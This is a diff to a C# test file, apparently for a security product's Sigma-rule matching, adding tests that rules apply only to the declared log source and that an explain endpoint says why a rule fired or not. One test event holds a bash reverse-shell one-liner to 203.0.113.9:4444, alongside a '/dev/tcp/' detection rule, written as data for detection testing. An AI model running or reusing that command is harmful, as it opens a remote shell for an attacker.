@@ -1,3 +1,4 @@
+using System.Net.Http.Json;
 using System.Text.Json.Nodes;
 using Gatehouse.Tests.Infrastructure;
 
@@ -39,10 +40,12 @@ public abstract class SigmaSearchTests(Provider provider)
             ["Gatehouse:Sigma:RulesPath"] = rules,
         });
         var admin = await factory.AdminAsync();
+        // An EDR that sends Windows process events without their channel declares what they are.
         var integration = await admin.CreateIntegrationAsync(new
         {
             mainJsonPath = "$[*]",
             fieldMappings = new[] { new { field = "Title", source = "$.title" }, new { field = "Command Line", source = "$.cmd" } },
+            logSource = new { product = "windows", category = "process_creation" },
         });
         var key = await admin.IntakeKeyAsync(integration, new { runMitreTtpSearch = true });
 
@@ -95,6 +98,85 @@ public abstract class SigmaSearchTests(Provider provider)
         var rules = lsass["evidence"]!.AsArray().Select(e => e!["rule"]!).ToList();
         Assert.Contains(rules, r => r["id"]!.GetValue<string>() == regression.RuleId && r["author"]!.GetValue<string>().Length > 0);
         Assert.Contains(factory.Logs, l => l.Contains("Loaded Sigma rules: 3141 compiled, 0 skipped"));
+    }
+}
+
+public sealed class SigmaLogSourceTests
+{
+    private const string LinuxRule = """
+        title: Reverse shell by bash
+        id: 7a7a7a7a-0000-4000-8000-000000000001
+        author: Test Author
+        level: high
+        tags:
+            - attack.execution
+            - attack.t1059.004
+        logsource:
+            product: linux
+            category: process_creation
+        detection:
+            selection:
+                CommandLine|contains: '/dev/tcp/'
+            condition: selection
+        """;
+
+    private const string WindowsRule = """
+        title: Whoami by cmd
+        id: 7a7a7a7a-0000-4000-8000-000000000002
+        author: Test Author
+        level: medium
+        tags:
+            - attack.discovery
+        logsource:
+            product: windows
+            category: process_creation
+        detection:
+            selection:
+                CommandLine|contains: 'whoami'
+            condition: selection
+        """;
+
+    [Fact]
+    public async Task An_integration_that_declares_its_log_source_gets_that_products_rules_only_and_explain_says_why_a_rule_did_not_fire()
+    {
+        var rules = TempFolder.Create();
+        File.WriteAllText(Path.Combine(rules, "linux.yml"), LinuxRule);
+        File.WriteAllText(Path.Combine(rules, "windows.yml"), WindowsRule);
+        await using var factory = new GatehouseFactory(await GatehouseStore.CreateOrSkipAsync(Provider.Sqlite), new()
+        {
+            ["Gatehouse:Attack:BundlePath"] = SharedData.Path("attack/enterprise-attack-18.1.json"),
+            ["Gatehouse:Sigma:RulesPath"] = rules,
+        });
+        var admin = await factory.AdminAsync();
+        var integration = await admin.CreateIntegrationAsync(new
+        {
+            mainJsonPath = "$[*]",
+            logSource = new { product = "linux", category = "process_creation" },
+            sigmaFields = new Dictionary<string, string> { ["proc_cmd"] = "CommandLine" },
+        });
+        var key = await admin.IntakeKeyAsync(integration, new { runMitreTtpSearch = true });
+
+        var result = await admin.SendAndWaitAsync(integration, GatehouseClient.DefaultSite, new object[]
+        {
+            new { proc_cmd = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; whoami" },
+            new { proc_cmd = "ls -la" },
+        }, key);
+
+        var ids = result["events"]!.AsArray().Select(e => e!["id"]!.GetValue<long>()).ToList();
+        var techniques = (await admin.GetAsync($"/api/events/{ids[0]}"))["techniques"]!.AsArray();
+        Assert.Equal(["T1059.004"], techniques.Select(t => t!["techniqueId"]!.GetValue<string>()));
+        var windows = await admin.GetAsync($"/api/events/{ids[0]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000002");
+        Assert.False(windows["explanation"]!["fired"]!.GetValue<bool>());
+        Assert.Contains("product 'windows', the event comes from 'linux'", windows["explanation"]!["verdict"]!.GetValue<string>());
+        var quiet = await admin.GetAsync($"/api/events/{ids[1]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000001");
+        Assert.Contains("selection did not match", quiet["explanation"]!["verdict"]!.GetValue<string>());
+        Assert.Equal(["CommandLine"], quiet["explanation"]!["fieldsPresent"]!.AsArray().Select(f => f!.GetValue<string>()));
+        var fired = await admin.GetAsync($"/api/events/{ids[0]}/explain?rule=7a7a7a7a-0000-4000-8000-000000000001");
+        Assert.True(fired["explanation"]!["fired"]!.GetValue<bool>());
+        Assert.Equal("CommandLine", fired["explanation"]!["selections"]![0]!["witnesses"]![0]!["field"]!.GetValue<string>());
+        await GatehouseClient.Problem(await admin.Http.GetAsync($"/api/events/{ids[0]}/explain?rule=nope"), System.Net.HttpStatusCode.NotFound);
+        await GatehouseClient.Problem(await admin.Http.PostAsJsonAsync("/api/integrations", new { name = Unique.Name("Bad source"), eventIntake = new { mainJsonPath = "$", logSource = new { product = "Linux OS" } } }),
+            System.Net.HttpStatusCode.BadRequest);
     }
 }
 
